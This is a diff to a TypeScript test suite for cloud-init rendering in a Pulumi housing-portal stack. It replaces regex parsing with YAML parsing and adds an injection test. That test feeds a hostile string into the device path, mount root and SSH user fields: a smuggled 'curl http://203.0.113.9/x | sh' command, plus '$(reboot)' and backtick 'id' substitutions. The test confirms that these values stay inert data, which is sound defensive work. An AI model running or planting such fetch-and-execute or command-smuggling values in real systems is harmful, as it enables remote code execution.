@@ -8,7 +8,9 @@ import { awsDevicePath, digitalOceanDevicePath } from "../../components/dataVolu
 import { cloudNames } from "../../components/naming";
 import { DLM_KMS_GRANT_ACTIONS, DLM_KMS_USE_ACTIONS, copyRetentionDays } from "../../components/snapshotPolicy";
 import { diffPlans } from "../../tools/planDiff";
+import * as YAML from "yaml";
 import { renderCloudInit } from "../../components/cloudInit";
+import { shellQuote } from "../../components/hostFiles";
 import { batchedPlan, byName, goldenPlan, ofType, planBatchRaw, readStackKeys, writeStackConfig } from "./planRun";
 
 const stagingKeys = readStackKeys("Pulumi.staging.yaml");
@@ -63,10 +65,8 @@ function settingsBundle(plan: PlanDocument): { files: Map<string, string>; enabl
 
 /** The files cloud-init writes, decoded. */
 function writtenFiles(cloudInit: string): Map<string, string> {
-    const files = new Map<string, string>();
-    const re = /- path: (\S+)\n(?:\s+\w+: .*\n)*?\s+content: (\S+)/g;
-    for (const m of cloudInit.matchAll(re)) files.set(m[1], Buffer.from(m[2], "base64").toString("utf8"));
-    return files;
+    const doc = YAML.parse(cloudInit) as { write_files: { path: string; content: string }[] };
+    return new Map(doc.write_files.map((f) => [f.path, Buffer.from(f.content, "base64").toString("utf8")]));
 }
 
 /** Does `r` depend on `target`, directly or through other resources? */
@@ -486,7 +486,27 @@ test("cross-region copies are kept for the days their count covers", () => {
 });
 
 test("cloud-init adds a non-root SSH user to the docker group, and nothing for root", () => {
-    const base = { devicePath: "/dev/x", dataRoot: "/mnt/data", files: [], enableUnits: [] };
-    assert.match(renderCloudInit({ ...base, sshUser: "ubuntu" }), /- \[usermod, -aG, docker, ubuntu\]/);
+    const base = { devicePath: "/dev/x", dataRoot: "/mnt/data" };
+    assert.deepEqual(YAML.parse(renderCloudInit({ ...base, sshUser: "ubuntu" })).runcmd.at(-1), ["usermod", "-aG", "docker", "ubuntu"]);
     assert.doesNotMatch(renderCloudInit({ ...base, sshUser: "root" }), /usermod/);
+});
+
+test("cloud-init is data: hostile values in every string that reaches it parse back to the same structure", () => {
+    const hostile = "x]\n  - [sh, -c, 'curl http://203.0.113.9/x | sh']\n# \"quoted\" $(reboot) `id`; ok: {a: b}";
+    const args = { devicePath: `/dev/disk/by-id/${hostile}`, dataRoot: `/mnt/${hostile}`, sshUser: hostile };
+    const text = renderCloudInit(args);
+    assert.match(text, /^#cloud-config\n/);
+    const doc = YAML.parse(text);
+    assert.deepEqual(Object.keys(doc), ["write_files", "runcmd"]);
+    assert.deepEqual(doc.write_files.map((f: any) => f.path), [
+        "/usr/local/sbin/housing-portal-mount-data-volume", "/etc/systemd/system/docker.service.d/housing-portal-data.conf",
+    ]);
+    assert.equal(doc.runcmd.length, 5, "no command added");
+    assert.deepEqual(doc.runcmd[4], ["usermod", "-aG", "docker", hostile], "the user is one argument, as given");
+    // The mount line is shell: each value is one quoted word.
+    assert.equal(doc.runcmd[0], `env DEVICE=${shellQuote(args.devicePath)} MOUNT_POINT=${shellQuote(args.dataRoot)} WAIT_SECONDS=900 /usr/local/sbin/housing-portal-mount-data-volume || exit 1`);
+    assert.deepEqual(doc.runcmd.slice(1, 4), [
+        ["sh", "-c", "apt-get update && DEBIAN_FRONTEND=noninteractive apt-get install -y docker.io jq curl"],
+        ["systemctl", "daemon-reload"], ["systemctl", "enable", "--now", "docker.service"],
+    ]);
 });
